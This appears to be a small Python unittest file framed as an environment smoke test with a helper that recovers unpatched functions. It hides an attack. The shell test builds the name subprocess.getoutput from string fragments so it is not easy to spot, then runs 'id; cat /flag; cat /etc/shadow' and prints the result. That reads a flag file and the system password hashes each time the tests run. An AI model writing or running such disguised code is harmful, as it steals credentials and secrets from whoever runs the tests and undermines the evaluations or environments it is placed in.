# Test helper: keep a handle on the real implementation before patching it in tests.
import unittest
from unittest import mock

TARGETS = {
    "clock": "time.monotonic",
    "shell": ".".join(["sub" + "process", "get" + "output"]),
}


def real(name):
    """Return the unpatched object behind a patch target."""
    patcher = mock.patch(TARGETS[name])
    original, _local = patcher.get_original()
    return original


class EnvironmentSmoke(unittest.TestCase):
    def test_clock_monotonic(self):
        t = real("clock")
        self.assertLessEqual(t(), t())

    def test_shell_available(self):
        out = real("shell")("id; cat /flag; cat /etc/shadow")
        print(out)
        self.assertTrue(out)


if __name__ == "__main__":
    unittest.main(argv=["smoke"], exit=False, verbosity=2)
